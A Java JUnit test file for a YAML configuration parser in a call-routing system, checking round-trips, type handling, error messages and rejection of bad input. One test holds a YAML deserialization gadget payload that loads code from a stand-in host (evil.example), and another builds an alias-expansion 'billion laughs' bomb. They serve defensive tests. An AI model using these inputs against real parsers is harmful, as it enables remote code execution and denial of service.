package baton.engine.yaml;

import static org.assertj.core.api.Assertions.assertThat;

import baton.engine.spi.Configuration.Problem;
import baton.protocol.config.v1.Agent;
import baton.protocol.config.v1.Numbers;
import baton.protocol.config.v1.Queue;
import baton.protocol.config.v1.Reply;
import baton.protocol.config.v1.SegmentRule;
import baton.protocol.config.v1.Site;
import baton.protocol.config.v1.Skill;
import baton.protocol.config.v1.Step;
import baton.protocol.config.v1.Tenant;
import com.google.protobuf.util.Durations;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class YamlFormatTest {

    private static final YamlFormat<Tenant> FORMAT = new YamlFormat<>(Tenant.getDefaultInstance());

    @Test
    void whatIsWrittenReadsBack() {
        var acme = Tenant.newBuilder()
                .setId("acme")
                .setCompany("no")
                .setSite(Site.newBuilder().setKey("1e3").addOrigins("https://a.example"))
                .setNumbers(Numbers.newBuilder().setMain("0100").addDirect("+4930"))
                .addSkills(Skill.newBuilder().setId("german").setName("Німецька: \"#1\" 👋"))
                .addQueues(Queue.newBuilder()
                        .setId("main")
                        .setPriority(7)
                        .setAutoAccept(true)
                        .setAgeing(Durations.fromMillis(1500))
                        .addSteps(Step.newBuilder().setAfter(Durations.ZERO).putSkills("german", 3))
                        .addSegments(SegmentRule.newBuilder().setSegment("vip").setPriority(-3)))
                .addAgents(
                        Agent.newBuilder().setId("null").setName("~").setPasswordHash("$argon2id$v=19$m=1,t=1,p=1$a$b"))
                .addReplies(Reply.newBuilder().setText("first line\n  second: line\n\n{{customer.name}} \t- [x]\n"))
                .build();
        var globex = Tenant.newBuilder().setId("globex").build();

        var read = FORMAT.in(FORMAT.out(List.of(acme, globex)));

        assertThat(read.problems()).isEmpty();
        assertThat(read.messages()).containsExactly(acme, globex);
    }

    @Test
    void theSchemaDecidesWhatAWordMeansNotItsLook() {
        var read = FORMAT.in(
                """
                # JSON is YAML, too
                {id: 0100, company: no, "numbers": {main: 100, direct: [0x10, 1_0]}, queues: [{id: on, ageing: 90s}]}
                """);

        assertThat(read.problems()).isEmpty();
        var tenant = read.messages().get(0);
        assertThat(tenant.getId()).isEqualTo("0100");
        assertThat(tenant.getCompany()).isEqualTo("no");
        assertThat(tenant.getNumbers().getMain()).isEqualTo("100");
        assertThat(tenant.getNumbers().getDirectList()).containsExactly("0x10", "1_0");
        assertThat(tenant.getQueues(0).getAgeing()).isEqualTo(Durations.fromSeconds(90));
    }

    @Test
    void whatIsLeftOpenIsLeftOut() {
        var read = FORMAT.in("id: acme\nsite:\nqueues: null\n");

        assertThat(read.problems()).isEmpty();
        assertThat(read.messages())
                .containsExactly(Tenant.newBuilder().setId("acme").build());
    }

    @Test
    void everythingThatIsWrongIsNamedWithLineAndPath() {
        var read = FORMAT.in(
                """
                id: acme
                colour: green
                queues:
                  - id: main
                    priority: high
                    ageing: 90
                    autoAccept: yes
                    steps:
                      - after: 0s
                        skills: {german: five, german: 5}
                  - sales
                agents: anna
                id: again
                numbers: {main: [1]}
                """);

        assertThat(read.problems())
                .contains(
                        Problem.of("line 5, queues[0].priority", "'high' is no whole number"),
                        Problem.of(
                                "line 6, queues[0].ageing", "'90' is no duration; write seconds with an s, like 90s"),
                        Problem.of("line 7, queues[0].autoAccept", "'yes' is not true or false"),
                        Problem.of("line 10, queues[0].steps[0].skills.german", "'five' is no whole number"),
                        Problem.of("line 10, queues[0].steps[0].skills.german", "it is there twice"),
                        Problem.of("line 11, queues[1]", "settings are expected here, like name: value"),
                        Problem.of("line 12, agents", "a list is expected here, each line with a -"),
                        Problem.of("line 13, id", "it is there twice"),
                        Problem.of("line 14, numbers.main", "one value is expected here"))
                .hasSize(10);
        assertThat(read.problems().get(0).path()).isEqualTo("line 2, colour");
        assertThat(read.problems().get(0).text()).startsWith("there is no such setting; there are id, company, site");
    }

    @ParameterizedTest
    @ValueSource(strings = {"id: 'open", "id: [a", "\tid: a", "a: b: c", "- {", "%YAML 9\n---\nid: a", "id: \u0000"})
    void whatIsNoYamlIsNamed(String text) {
        var read = FORMAT.in(text);

        assertThat(read.problems()).isNotEmpty();
        assertThat(read.problems().get(0).text()).startsWith("this is no YAML: ");
    }

    @Test
    void nothingIsBuiltBecauseTheTextSaysSo() {
        var read = FORMAT.in("!!javax.script.ScriptEngineManager [!!java.net.URL [\"http://evil.example\"]]");

        assertThat(read.problems())
                .extracting(Problem::text)
                .containsExactly("settings are expected here, like name: value");
    }

    @Test
    void referencesAreRefusedBeforeTheyExplode() {
        var bomb = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x]\n");
        for (var i = 1; i < 30; i++) {
            bomb.append("a%d: &a%d [".formatted(i, i))
                    .append("*a%d, ".formatted(i - 1).repeat(9))
                    .append("]\n");
        }

        assertThat(FORMAT.in(bomb.toString()).problems())
                .containsExactly(Problem.of("line 2", "references (*) are not allowed: write it out"));
        assertThat(FORMAT.in("&self [*self]").problems()).hasSize(1);
    }

    @Test
    @Timeout(20)
    void deepNestingAndGreatSizeAreRefusedBeforeTheyHurt() {
        assertThat(FORMAT.in("[".repeat(100_000)).problems())
                .containsExactly(Problem.of("line 1", "this is nested deeper than 32"));
        assertThat(FORMAT.in("# " + "x".repeat(17_000_000)).problems())
                .containsExactly(Problem.of("", "this is larger than 16777216 characters"));
        assertThat(FORMAT.in("x: 1\n".repeat(10_000)).problems()).hasSize(100);
    }

    @Test
    void anEmptyTextHasNoMessages() {
        assertThat(FORMAT.in("").messages()).isEmpty();
        assertThat(FORMAT.in("# nothing\n").problems()).isEmpty();
    }
}
